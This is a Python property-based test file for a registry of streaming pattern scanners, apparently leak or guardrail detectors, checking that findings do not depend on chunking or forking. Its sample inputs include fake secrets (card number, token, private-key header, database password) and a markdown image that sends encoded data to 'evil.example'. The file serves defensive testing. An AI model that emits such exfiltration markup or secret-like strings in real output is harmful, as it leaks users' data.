"""What every pattern scanner promises, asked of each detector in the registry. A new one is picked up by itself."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from detectors import registry
from detectors.base import Detector, ForkingScan, PatternScanner, forked
from detectors.parts import default_labels, parts_of
from detectors.types import Finding
from tests.detectors.scans import every_cut, scan
from tests.streams import NASTY

PARAMS: dict[str, dict[str, Any]] = {
    "patterns": {
        "patterns": [{"label": "ORDER", "regex": r"\b\w+-\d{2,4}\b"}, {"label": "WORD", "regex": "(?i)[aé]+!"}],
        "keywords": {"TERM": ["a a", "漢。", "card"]},
    },
    "tools": {"allow": ["search"]},
    "format": {
        "json": {},
        "words": {"min": 3, "max": 5},
        "required": {"TERM": ["a a", "card"]},
    },
    "topic": {"deny": ["banking"], "allow": ["banking", {"name": "pets", "examples": ["My cat sleeps a lot."]}]},
}
"""What a detector is built with here, where its defaults find nothing."""
TEXTS = (
    "",
    "The quick brown fox jumps over the lazy dog, and then it rests.",
    "card 4111 1111 1111 1111, mail jane.doe@example.com, call +1 212 555 0123 or 10.0.0.1",
    "![a](https://evil.example/x?d=aGVsbG8gd29ybGQgYWdhaW4)"
    " IBAN DE89 3704 0044 0532 0130 00 and order-1234 a a!\r\n漢。 card",
    "pass\u200bword " + "gh" + "p_" + "aB3dE6gH9" * 4 + " AccountKey=" + "aB3/" * 21 + "ab==;",
    "postgres://app:hunter2hunter@db:5432/x?sslmode=on "
    + "-" * 5
    + "BEGIN PRIVATE KEY"
    + "-" * 5
    + "\n"
    + "MIIEpAIB" * 30,
    "👩🏽\u200d💻 \u202eabc\u202c é\u0301é\u0301 مرحبا \ud800 1234567890 " * 3,
)
PIECES = [
    *NASTY,
    "4111 1111 1111 1111",
    "jane@example.com",
    "+49 30 123456",
    "card",
    "a a",
    "order-12",
    "password=",
    "10.0.0.1",
]


def built(name: str) -> Detector:
    kind = registry.get(name)
    return kind.build(kind.params.model_validate(PARAMS.get(name, {})))


SCANNERS = {name: detector for name in registry.names() if isinstance(detector := built(name), PatternScanner)}
NEEDS_A_TASK = frozenset({"task_adherence"})
"""What finds nothing where nobody told what was asked."""
scanners = pytest.mark.parametrize("name", SCANNERS)


@scanners
@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_findings_do_not_depend_on_how_a_text_is_cut(name: str, text: str) -> None:
    expected = scan(SCANNERS[name], text)
    for ends in every_cut(text):
        assert scan(SCANNERS[name], text, ends) == expected


@scanners
@given(st.lists(st.sampled_from(PIECES), max_size=20).map("".join), st.data())
def test_findings_do_not_depend_on_how_any_mixture_is_cut(name: str, text: str, data: st.DataObject) -> None:
    ends = data.draw(st.lists(st.integers(0, len(text)), max_size=10).map(sorted))
    expected = scan(SCANNERS[name], text)
    assert scan(SCANNERS[name], text, ends) == expected
    assert scan(SCANNERS[name], text, range(len(text))) == expected


@scanners
def test_more_left_context_than_promised_changes_nothing(name: str) -> None:
    text = " ".join(TEXTS)
    run = SCANNERS[name].start()
    found: list[Finding] = []
    for end in [*range(0, len(text), 5), len(text)]:
        found += run.advance(text[:end], 0, is_final=False)
    found += run.advance(text, 0, is_final=True)
    assert found == scan(SCANNERS[name], text)


@scanners
def test_labels_and_thresholds_are_stated(name: str) -> None:
    kind = registry.get(name)
    params = kind.params.model_validate(PARAMS.get(name, {}))
    stated = kind.labels_of(params)
    assert SCANNERS[name].labels == default_labels(parts_of(kind, params)) <= set(stated)
    assert all(0 < threshold <= 1 for threshold in stated.values())


@pytest.mark.parametrize("name", sorted(SCANNERS.keys() - NEEDS_A_TASK))
def test_it_finds_something(name: str) -> None:
    assert any(scan(SCANNERS[name], text) for text in TEXTS)


@scanners
def test_it_says_what_it_checked_and_quotes_nothing(name: str) -> None:
    for text in TEXTS:
        for finding in scan(SCANNERS[name], text):
            assert finding.reason
            found = text[finding.start : finding.end]
            assert len(found) == 1 or found not in finding.reason  # one letter is in many a word


@scanners
def test_two_scans_know_nothing_of_each_other(name: str) -> None:
    first, second = SCANNERS[name].start(), SCANNERS[name].start()
    text = TEXTS[2]
    one: list[Finding] = []
    other: list[Finding] = []
    for end in range(len(text) + 1):
        one += first.advance(text[:end], 0, is_final=end == len(text))
        other += second.advance(TEXTS[1][:end], 0, is_final=end == len(text))
    assert one == scan(SCANNERS[name], text)
    assert other == scan(SCANNERS[name], TEXTS[1])


@scanners
@given(st.lists(st.sampled_from(PIECES), max_size=20).map("".join), st.data())
def test_a_fork_tells_what_would_be_found_and_leaves_its_scan_as_it_was(
    name: str, text: str, data: st.DataObject
) -> None:
    scanner = SCANNERS[name]
    run = scanner.start()
    assert isinstance(run, ForkingScan)
    found: list[Finding] = []
    for end in data.draw(st.lists(st.integers(0, len(text)), max_size=6).map(sorted)):
        offset = max(0, run.cleared - scanner.look_behind)
        found += run.advance(text[offset:end], offset, is_final=False)
        offset = max(0, run.cleared - scanner.look_behind)
        ended = forked(run, scanner).advance(text[offset:end], offset, is_final=True)
        assert [*found, *ended] == scan(scanner, text[:end])
    offset = max(0, run.cleared - scanner.look_behind)
    assert [*found, *run.advance(text[offset:], offset, is_final=True)] == scan(scanner, text)


def test_a_scan_that_does_not_know_how_to_fork_is_copied_all_but_its_scanner() -> None:
    class Own:
        def __init__(self, scanner: PatternScanner) -> None:
            self.scanner = scanner
            self.seen: list[str] = []
            self.cleared = 0

        def advance(self, text: str, offset: int, *, is_final: bool) -> list[Finding]:
            self.seen.append(text)
            return []

    scanner = next(iter(SCANNERS.values()))
    scan_of_it = Own(scanner)
    other = forked(scan_of_it, scanner)
    other.advance("text", 0, is_final=True)
    assert isinstance(other, Own)
    assert (scan_of_it.seen, other.scanner is scanner) == ([], True)


@scanners
def test_a_lane_may_be_empty_and_chunks_too(name: str) -> None:
    run = SCANNERS[name].start()
    assert list(run.advance("", 0, is_final=False)) == []
    assert list(run.advance("", 0, is_final=True)) == []
    assert run.cleared == 0
